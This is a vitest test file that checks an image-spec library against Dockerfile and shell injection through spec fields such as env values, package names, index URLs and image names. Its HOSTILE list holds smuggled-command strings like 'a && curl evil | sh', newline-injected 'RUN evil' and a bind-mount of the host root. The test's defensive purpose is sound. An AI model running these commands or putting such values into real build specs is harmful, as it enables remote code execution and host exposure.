// No field can add a Dockerfile instruction, a heredoc, a shell command or an expansion. Every field gets
// every hostile string; each render is either refused with a SpecValidationError naming the field, or read
// back (instruction by instruction, ENV values with the frontend's rules, shell words with a real /bin/sh)
// to the same instructions as a benign spec and to the exact value given.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { ImageSpec, type ImageSpecInput, SpecValidationError } from "@imagespec/core";
import { afterAll, describe, expect, it } from "vitest";
import { shellWord, splitArgs } from "../src/words.ts";
import {
  envPairs,
  type Instruction,
  keepExpansion,
  noExpansion,
  parseDockerfile,
} from "./helpers/dockerfile.ts";
import { renderSpec } from "./helpers/render.ts";

const HOSTILE = [
  'say "hi"',
  "it's",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the point
  "$HOME ${PATH} $(id) `id`",
  "back\\slash\\",
  "\\",
  "ends with \\",
  "#not a comment",
  "--mount=type=bind,source=/,target=/host",
  "a && curl evil | sh",
  "a; RUN evil",
  ']"[',
  "café ünï 日本 🎉",
  "tab\there",
  "carriage\rreturn",
  "<<EOF",
  "a\nRUN evil",
  "\nRUN evil",
  "x \\\nRUN evil",
  "a\r\nRUN evil",
  "  spaced  ",
  "nul\u0000char",
];
const hasLineBreak = (v: string) => /[\r\n]/.test(v);
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test is about control characters
const shellUnsafe = (v: string) => /[\u0000-\u001f\u007f]/.test(v) || v.includes("<<");

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function folder(files: Record<string, string> = {}): string {
  const dir = realpathSync(mkdtempSync(path.join(tmpdir(), "imagespec-docker-hostile-")));
  dirs.push(dir);
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}

const PIP = { builderConfig: { installer: "pip" } };

async function render(input: ImageSpecInput, dir = folder()) {
  const context = await renderSpec(new ImageSpec(input, { baseDir: dir, env: {} }));
  return { context, steps: parseDockerfile(context.dockerfile) };
}

/** The shape of a Dockerfile: its instructions' keywords and flags (values aside). */
const shape = (steps: Instruction[]) => steps.map((s) => `${s.keyword} ${s.flags.join(" ")}`);

/** What a real POSIX shell makes of `words` (printf prints each argument followed by a NUL). */
function shellArgs(words: string): string[] {
  const out = execFileSync("/bin/sh", ["-c", `printf '%s\\0' ${words}`], { encoding: "utf8" });
  return out.split("\0").slice(0, -1);
}

interface FieldCase {
  field: string;
  /** The spec with the field set to `value`. */
  input: (value: string) => ImageSpecInput;
  /** The field path the refusal names, when `value` must be refused. */
  refusedAs: (value: string) => string | undefined;
  /** Checks an accepted render: the value arrived exactly. */
  arrived?: (steps: Instruction[], value: string, files: Record<string, string>) => void;
}

const runBody = (steps: Instruction[], marker: string) =>
  steps.find((s) => s.keyword === "RUN" && s.rest.includes(marker))?.rest ?? "";

const FIELDS: FieldCase[] = [
  {
    field: "env value",
    input: (v) => ({ ...PIP, env: { MY_VAR: v } }),
    refusedAs: (v) => (v.includes("\n") || v.includes("\u0000") ? "env.MY_VAR" : undefined),
    arrived: (steps, v) => {
      const block = steps.find((s) => s.keyword === "ENV" && s.rest.includes("MY_VAR="));
      const pairs = new Map(envPairs(block?.rest.replace(/^PATH="[^"]*" /, "") ?? "", noExpansion));
      expect(pairs.get("MY_VAR")).toBe(v);
    },
  },
  {
    field: "env name",
    input: (v) => ({ ...PIP, env: { [v]: "x" } }),
    refusedAs: (v) => `env.${v}`,
  },
  {
    field: "commands",
    input: (v) => ({ ...PIP, commands: [v] }),
    refusedAs: () => undefined,
    arrived: (steps, v) => {
      expect(steps.filter((s) => s.json?.[0] === "/bin/sh").map((s) => s.json)).toEqual(
        v.trim() === "" ? [] : [["/bin/sh", "-c", v]],
      );
    },
  },
  {
    field: "entrypoint",
    input: (v) => ({ ...PIP, entrypoint: [v, "--flag"] }),
    refusedAs: () => undefined,
    arrived: (steps, v) => {
      expect(steps.find((s) => s.keyword === "ENTRYPOINT")?.json).toEqual([v, "--flag"]);
    },
  },
  {
    field: "aptPackages",
    input: (v) => ({ ...PIP, aptPackages: ["curl", v] }),
    refusedAs: () => "aptPackages[1]",
  },
  {
    field: "packages",
    input: (v) => ({ ...PIP, packages: [v] }),
    refusedAs: (v) => (hasLineBreak(v) ? "packages[0]" : undefined),
    arrived: (_, v, files) => {
      expect(files["requirements_pip.txt"]).toBe(v);
    },
  },
  {
    field: "pipIndex",
    input: (v) => ({ ...PIP, pipIndex: v, packages: ["x"] }),
    refusedAs: (v) => (shellUnsafe(v) ? "pipIndex" : undefined),
    arrived: (steps, v) => {
      expect(runBody(steps, "-m pip install")).toContain(` --index-url ${shellWord(v, { field: "t" })} `);
    },
  },
  {
    field: "pipExtraIndexUrl",
    input: (v) => ({ pipExtraIndexUrl: ["https://ok.example/simple", v], packages: ["x"] }),
    refusedAs: (v) => (shellUnsafe(v) ? "pipExtraIndexUrl[1]" : undefined),
    arrived: (steps, v) => {
      expect(runBody(steps, "uv pip install")).toContain(
        ` --extra-index-url ${shellWord(v, { field: "t" })} `,
      );
    },
  },
  {
    field: "pythonExec",
    input: (v) => ({ ...PIP, pythonExec: v }),
    refusedAs: (v) => (shellUnsafe(v) ? "pythonExec" : undefined),
    arrived: (steps, v) => {
      expect(runBody(steps, "-m venv")).toContain(
        `${shellWord(v, { field: "t" })} -m venv --system-site-packages`,
      );
    },
  },
  {
    field: "condaPackages",
    input: (v) => ({ condaPackages: ["numpy", v] }),
    refusedAs: (v) => (shellUnsafe(v) ? "condaPackages[1]" : undefined),
    arrived: (steps, v) => {
      expect(runBody(steps, "micromamba create")).toContain(`numpy ${shellWord(v, { field: "t" })}`);
    },
  },
  {
    field: "condaChannels",
    input: (v) => ({ condaChannels: [v] }),
    refusedAs: (v) => (shellUnsafe(v) ? "condaChannels[0]" : undefined),
    arrived: (steps, v) => {
      expect(runBody(steps, "micromamba create")).toContain(
        `-c conda-forge -c ${shellWord(v, { field: "t" })}`,
      );
    },
  },
  {
    field: "pipSecretMounts target",
    input: (v) => ({ ...PIP, packages: ["x"], pipSecretMounts: [["secret", v]] }),
    refusedAs: () => "pipSecretMounts[0][1]",
  },
  { field: "baseImage", input: (v) => ({ ...PIP, baseImage: v }), refusedAs: () => "baseImage" },
  {
    field: "builderConfig.uv_image",
    input: (v) => ({ builderConfig: { uv_image: v } }),
    refusedAs: () => "builderConfig.uv_image",
  },
  {
    field: "builderConfig.micromamba_image",
    input: (v) => ({ builderConfig: { micromamba_image: v } }),
    refusedAs: () => "builderConfig.micromamba_image",
  },
  { field: "pythonVersion", input: (v) => ({ pythonVersion: v }), refusedAs: () => "pythonVersion" },
];

function benign(field: FieldCase): ImageSpecInput {
  if (field.field === "env name") return field.input("BENIGN");
  if (field.field === "pipSecretMounts target") return field.input("/root/.netrc");
  if (["baseImage", "builderConfig.uv_image", "builderConfig.micromamba_image"].includes(field.field)) {
    return field.input("localhost:5000/benign:1");
  }
  return field.input(field.field === "pythonVersion" ? "3.11" : "benign");
}

describe("hostile values", () => {
  for (const field of FIELDS) {
    it(`${field.field}: each value is refused with the field named, or arrives exactly with no new instruction`, async () => {
      const { steps: reference } = await render(benign(field));
      for (const value of HOSTILE) {
        const expectedRefusal = field.refusedAs(value);
        let rendered: Awaited<ReturnType<typeof render>> | undefined;
        let refusal: unknown;
        try {
          rendered = await render(field.input(value));
        } catch (error) {
          refusal = error;
        }
        if (expectedRefusal !== undefined) {
          expect(refusal, JSON.stringify(value)).toBeInstanceOf(SpecValidationError);
          expect((refusal as SpecValidationError).field, JSON.stringify(value)).toBe(expectedRefusal);
          continue;
        }
        expect(refusal, JSON.stringify(value)).toBeUndefined();
        const { context, steps } = rendered as NonNullable<typeof rendered>;
        const skipped = field.field === "commands" && value.trim() === "";
        if (!skipped) expect(shape(steps), JSON.stringify(value)).toEqual(shape(reference));
        expect(steps.filter((s) => s.heredoc)).toEqual([]);
        const files = Object.fromEntries(
          context.files.flatMap((f) => ("content" in f ? [[f.path, String(f.content)]] : [])),
        );
        field.arrived?.(steps, value, files);
      }
    });
  }

  it("paths (source tree, copy entries, requirements file) never reach the Dockerfile", async () => {
    const names = HOSTILE.filter((v) => v.trim() !== "" && !v.includes("/") && !v.includes("\u0000"));
    const project = async (name: (i: number) => string, requirements: string) => {
      const files: Record<string, string> = { [requirements]: "numpy\n" };
      names.forEach((_, i) => {
        files[`src/${name(i)}`] = `source ${i}\n`;
        files[`data/${name(i)}`] = `data ${i}\n`;
      });
      const input = { ...PIP, sourceRoot: "src", sourceCopyMode: "ALL", copy: ["data"], requirements };
      return render(input, folder(files));
    };
    const hostile = await project((i) => names[i] as string, "req\n RUN evil.txt");
    const plain = await project((i) => `file${i}`, "req.txt");
    // The same Dockerfile whatever the names, but for the id (it hashes the requirements path).
    const withoutId = (text: string) => text.replace(/_F_IMG_ID=\S+/, "");
    expect(withoutId(hostile.context.dockerfile)).toBe(withoutId(plain.context.dockerfile));
    const staged = hostile.context.files.map((f) => f.path);
    for (const name of names)
      expect(staged).toEqual(expect.arrayContaining([`src/${name}`, `copy/data/${name}`]));
  });
});

describe("shell words", () => {
  const quotable = HOSTILE.filter((v) => !shellUnsafe(v));

  it("a real shell reads every quoted word back as the value", () => {
    const words = quotable.map((v) => shellWord(v, { field: "t" }));
    expect(shellArgs(words.join(" "))).toEqual(quotable);
  });

  it("pip_extra_args are split like a shell splits them, and each word stays one literal argument", () => {
    const text = `--a 'b c' "d \\"e\\" \\$f" g\\ h '$(id)' \`id\` ;`;
    const words = splitArgs(text, { field: "pipExtraArgs" });
    expect(words).toEqual(["--a", "b c", 'd "e" $f', "g h", "$(id)", "`id`", ";"]);
    expect(shellArgs(words.map((w) => shellWord(w, { field: "t" })).join(" "))).toEqual(words);
  });

  it.each([["'open"], ['"open'], ["trailing\\"]])(
    "refuses pip_extra_args with unbalanced quoting: %j",
    (text) => {
      expect(() => splitArgs(text, { field: "pipExtraArgs" })).toThrow(SpecValidationError);
    },
  );

  it("refuses control characters and heredoc markers", () => {
    for (const v of HOSTILE.filter(shellUnsafe)) {
      expect(() => shellWord(v, { field: "pipIndex" }), JSON.stringify(v)).toThrow(SpecValidationError);
    }
  });
});

describe("ENV values", () => {
  it("read back byte for byte, without expansion, for every value without a newline", async () => {
    const values = HOSTILE.filter((v) => !v.includes("\n") && !v.includes("\u0000"));
    const env = Object.fromEntries(values.map((v, i) => [`V${i}`, v]));
    const { steps } = await render({ ...PIP, env });
    const block = steps.find((s) => s.keyword === "ENV" && s.rest.includes("V0="));
    const pairs = envPairs(block?.rest ?? "", keepExpansion).filter(([k]) => /^V\d+$/.test(k));
    expect(pairs).toEqual(values.map((v, i) => [`V${i}`, v]));
  });

  it("refuses a newline with the variable named, before anything is built", async () => {
    await expect(render({ env: { GREETING: "hello\nworld" } })).rejects.toMatchObject({
      code: "SPEC_INVALID",
      field: "env.GREETING",
      message: expect.stringContaining("GREETING contains a newline"),
    });
  });
});
